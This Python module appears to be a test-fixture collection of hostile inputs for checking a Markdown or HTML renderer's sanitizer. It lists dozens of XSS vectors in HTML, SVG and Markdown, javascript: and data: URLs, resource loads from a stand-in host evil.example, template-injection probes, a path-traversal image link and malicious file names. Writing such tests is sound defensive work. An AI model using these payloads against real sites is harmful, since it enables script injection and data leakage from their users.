"""What hostile payloads say: RUN stands for what would run, ASK for who would be asked, NUM for a payload's number."""

from __future__ import annotations

RUN = "window.__pwned=NUM,console.log('pwned NUM'),alert(NUM)"
"""What a payload would run; NUM becomes its number."""
ASK = "//evil.example/NUM"
_TEXTS = """
<script>RUN</script>
<ScRiPt >RUN</sCrIpT>
<script src=ASK></script>
<scr<script>ipt>RUN</scr</script>ipt>
</script><script>RUN</script>
</title><script>RUN</script>
</style><script>RUN</script>
</textarea><script>RUN</script>
--><script>RUN</script>
]]><script>RUN</script>
<script xmlns="http://www.w3.org/1999/xhtml">RUN</script>
"><script>RUN</script>
'><script>RUN</script>
"><img src=x onerror=RUN>
' onmouseover='RUN' x='
" onfocus="RUN" autofocus tabindex=0 x="
" style="animation-name:x" onanimationstart="RUN
<img src=x onerror=RUN>
<img src="x" onerror="RUN" alt="`">
<img/src=x/onerror=RUN>
<img src=ASK>
<img srcset="ASK 1x">
<svg onload=RUN>
<svg/onload=RUN//
<svg><script>RUN</script></svg>
<svg><script href="data:text/javascript,RUN"/></svg>
<svg><use href="data:image/svg+xml,<svg id=x onload=RUN></svg>#x"/></svg>
<svg><a xlink:href="javascript:RUN"><text y=20>a</text></a></svg>
<svg><animate onbegin=RUN attributeName=x dur=1s></svg>
<svg><foreignObject><iframe srcdoc="<script>parent.RUN</script>"></iframe></foreignObject></svg>
<svg></p><style><a id="</style><img src=1 onerror=RUN>">
<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=RUN&gt;">
<math><a xlink:href="javascript:RUN">a</a></math>
<noscript><p title="</noscript><img src=x onerror=RUN>">
<iframe src="javascript:RUN"></iframe>
<iframe srcdoc="<script>parent.RUN</script>"></iframe>
<iframe src=ASK></iframe>
<embed src="javascript:RUN">
<object data="javascript:RUN"></object>
<object data=ASK></object>
<video src=x onerror=RUN></video>
<video><source onerror=RUN></video>
<audio src=ASK autoplay></audio>
<body onload=RUN>
<details open ontoggle=RUN><summary>a</summary></details>
<input autofocus onfocus=RUN>
<select autofocus onfocus=RUN></select>
<marquee onstart=RUN>a</marquee>
<form action="javascript:RUN"><button>a</button></form>
<button formaction="javascript:RUN">a</button>
<meta http-equiv="refresh" content="0;url=javascript:RUN">
<meta http-equiv="refresh" content="0;url=ASK">
<base href="ASK/">
<link rel="stylesheet" href=ASK>
<link rel="prefetch" href=ASK>
<style>@import "ASK";</style>
<div style="background:url(ASK)">a</div>
<div style="position:fixed;inset:0;z-index:9">a</div>
<table background=ASK><tr><td>a</td></tr></table>
<a href="javascript:RUN">a</a>
<a href=" &#1; java&#10;script:RUN">a</a>
<a href="JaVaScRiPt&colon;RUN">a</a>
<a href="data:text/html,<script>RUN</script>">a</a>
<a href=ASK ping=ASK>a</a>
<q cite="javascript:RUN">a</q>
<blockquote cite="data:text/html,<script>RUN</script>">a</blockquote>
<p onpointerenter=RUN onclick=RUN>a</p>
<x onclick=RUN tabindex=1 id=x>a</x>
<template><script>RUN</script></template>
<template shadowrootmode=open><script>RUN</script></template>
<!--<img src="--><img src=x onerror=RUN//">
<![CDATA[<img src=x onerror=RUN>]]>
<?xml version="1.0"?><?xml-stylesheet href="javascript:RUN"?>
<xmp><script>RUN</script></xmp>
<plaintext><script>RUN</script>
{{ 7*7 }}{{ self.__init__.__globals__ }}<script>RUN</script>
{% for x in ().__class__.__base__.__subclasses__() %}<script>RUN</script>{% endfor %}
${RUN}<%= RUN %>#{RUN}
\\u003cscript\\u003eRUN\\u003c/script\\u003e
&lt;script&gt;RUN&lt;/script&gt;
&#60;img src=x onerror=RUN&#62;
＜script＞RUN＜/script＞
<img src=x on\u200berror=RUN>
<\u0000script>RUN</script>
"""
TEXTS = tuple(line for line in _TEXTS.splitlines() if line)
_BODIES = """
[a](javascript:RUN)
[a](<javascript:RUN>)
[a](java&#115;cript:RUN)
[a]( javascript&colon;RUN )
[a](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)
[a](vbscript:RUN)
[a](blob:RUN)
[a](filesystem:RUN)
[a](view-source:javascript:RUN)
[a](ASK)
[a](\\\\evil.example/NUM)
[a](https:evil.example/NUM)
[a](https://evil.example@127.0.0.1/NUM)
[a](https://a.lt/"onmouseover=RUN//)
[a](https://a.lt "x" onmouseover=RUN)
[a](https://a.lt '"><script>RUN</script>')
[a](x.md"onclick="RUN)
[a][n]
[a]: javascript:RUN
<javascript:RUN>
![a](javascript:RUN)
![a](ASK)
![a"onerror="RUN](foto.jpg)
![a](foto.jpg "x' onerror='RUN")
![<script>RUN</script>](foto.jpg "<script>RUN</script>")
![a](../../../../etc/passwd)
![a](data:image/svg+xml,<svg onload=RUN>)
![a](foto.jpg){: onload="RUN" srcset="ASK" }
*a*{: onclick="RUN" style="background:url(ASK)" }
# A {: #main onclick="RUN" }
## <img src=x onerror=RUN> {#more}
`<script>RUN</script>`
    <script>RUN</script>
~~~ html" onclick="RUN
| a | <img src=x onerror=RUN> |
> <script>RUN</script>
- <script>RUN</script>
*[RUN]: "><script>RUN</script>
a[^1] [^1]: <script>RUN</script>
lentyna-link:0" onclick="RUN
<a href="lentyna-link:0" onclick="RUN">a</a>
<img data-picture="0" onerror=RUN>
\x02wzxhzdk:0\x03<script>RUN</script>
[a](https://a.lt/?q=<script>RUN</script>)
<a name="main" id="main" href="#x" onclick=RUN>a</a>
<a href="https://a.lt" target=_blank rel=opener onclick=RUN>a</a>
"""
BODIES = tuple(line for line in _BODIES.splitlines() if line)
ADDRESSES = (
    *(
        "javascript:RUN",
        "JAVASCRIPT:RUN",
        "data:text/html,<script>RUN</script>",
        "vbscript:RUN",
        "https:javascript:RUN",
    ),
    *('https://a.lt/"onmouseover="RUN', "https://a.lt/'onmouseover='RUN", "https://a.lt/<script>RUN</script>"),
    *("https://a.lt/%22onmouseover=%22RUN", "https://a.lt/#javascript:RUN", "https://u:p@a.lt/NUM", "//a.lt/NUM"),
    *("https://a.lt/`onmouseover=RUN", "https://a.lt/&quot;onmouseover=RUN", "https://a.lt\\@b.lt/"),
    *("https://[::1", "http://[RUN", "https://a]RUN/", "https://ex℀mple.org/NUM"),
)
NAMES = (
    *('"><img src=x onerror=alert(1)>.md', "<script>alert(1)<", "' onmouseover=alert(1) '.md", "2026-01-01-{{7*7}}.md"),
    *(
        "2026-01-01-javascript:alert(1).md",
        "2026-01-01-a&lt;b.md",
        "2026-01-01-%3Cscript%3E.md",
        "2026-01-01-\u202egpj.md",
    ),
    *("index.html", "script.js", "x.svg", "x.html", "2026-01-01-a.html.md", "..%2f..%2fx.md", "CON.md", "-rf.md"),
)
QUERIES = tuple(
    text
    for text in TEXTS
    if text.startswith(("<img src=x", "<svg onload", '"><script', "</script>", "{{", '<iframe src="java', "' on"))
)
